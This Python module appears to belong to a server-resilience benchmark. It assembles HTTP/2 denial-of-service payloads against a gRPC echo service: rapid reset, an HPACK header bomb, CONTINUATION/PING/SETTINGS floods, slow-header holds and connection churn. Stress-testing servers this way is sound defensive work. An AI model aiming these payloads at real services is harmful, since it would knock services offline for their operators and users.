"""The attacks, composed of the behaviours in `hostile` and of frames."""

import functools
import struct

from frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    SETTINGS,
    call_fields,
    data,
    frame,
    literal,
    message,
    opening,
    reset,
    setting,
    string,
    window_update,
)
from hostile import Churn, Flood, Hold

CALL = call_fields(b"/titanup.bench.v1.EchoService/Echo")
UNLIMITED = (1 << 31) - 1
INITIAL_WINDOW_SIZE = 4


def call(stream, *frames, fields=CALL):
    """The HEADERS of a call, followed by other frames."""
    return frame(HEADERS, END_HEADERS, stream, fields) + b"".join(frames)


def streams(of_stream, count, number=0):
    """The bytes that `of_stream` returns for each of the `count` streams in the n-th piece."""
    return b"".join(of_stream(stream) for stream in range(2 * count * number + 1, 2 * count * (number + 1), 2))


def new_streams(of_stream, count=100):
    return Flood(functools.cache(lambda number: streams(of_stream, count, number)))


def the_same(octets, start=opening()):
    pieces = octets * 500
    return Flood(lambda _: pieces, start)


# Adds a field of 4,000 bytes to the dynamic table, and then refers to it 4,000 times.
BOMB = CALL + b"\x40" + string(b"bomb") + string(b"x" * 4000) + b"\xbe" * 4000

# Calls with the largest possible flow-control windows, for a client that never reads the answers.
NEVER_READS = (
    opening(setting(INITIAL_WINDOW_SIZE, UNLIMITED))
    + window_update(0, UNLIMITED - 65535)
    + streams(
        lambda stream: call(
            stream,
            *(data(stream, message(b"x" * 60_000)[start : start + 16384]) for start in range(0, 60_010, 16384)),
            data(stream, b"", flags=1),
        ),
        64,
    )
)

# Sends the frame's header in one piece, since nghttp2 gives up on a header in many pieces.
SLOW = frame(CONTINUATION, 0, 1, literal(b"slow", b"x" * 4000))

ATTACKS = {
    "rapid reset": new_streams(lambda stream: call(stream, reset(stream))),
    "made to reset: window overflow": new_streams(lambda stream: call(stream, window_update(stream, UNLIMITED))),
    "made to reset: bad fields": new_streams(
        lambda stream: call(stream, fields=CALL + literal(b"connection", b"close"))
    ),
    "made to reset: content-length": new_streams(
        lambda stream: call(stream, data(stream, b"xx"), fields=CALL + literal(b"content-length", b"1"))
    ),
    "announces 4 GiB": new_streams(lambda stream: call(stream, data(stream, b"\0\xff\xff\xff\xff" + bytes(1000)))),
    "header bomb": new_streams(lambda stream: call(stream, fields=BOMB), count=10),
    "CONTINUATION flood": the_same(
        frame(CONTINUATION, 0, 1, literal(b"a", b"b")), opening() + frame(HEADERS, 0, 1, CALL)
    ),
    "PING flood": the_same(frame(PING, 0, 0, b"titanup!")),
    "SETTINGS flood": the_same(frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65535))),
    "PRIORITY flood": the_same(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15))),
    "WINDOW_UPDATE flood": the_same(window_update(0, 1)),
    "unknown frames": the_same(frame(0xFA)),
    "empty DATA": the_same(frame(DATA, 0, 1), opening() + call(1)),
    "connects and closes": Churn(),
    "never reads": Hold(NEVER_READS, connections=16, receive_buffer=4096),
    "slow preface": Hold(b"", PREFACE),
    "slow headers": Hold(opening() + frame(HEADERS, 0, 1, CALL) + SLOW[:9], SLOW[9:]),
    "half a frame": Hold(opening() + call(1) + data(1, bytes(16384))[:100]),
    "idle": Hold(opening(), connections=500),
}
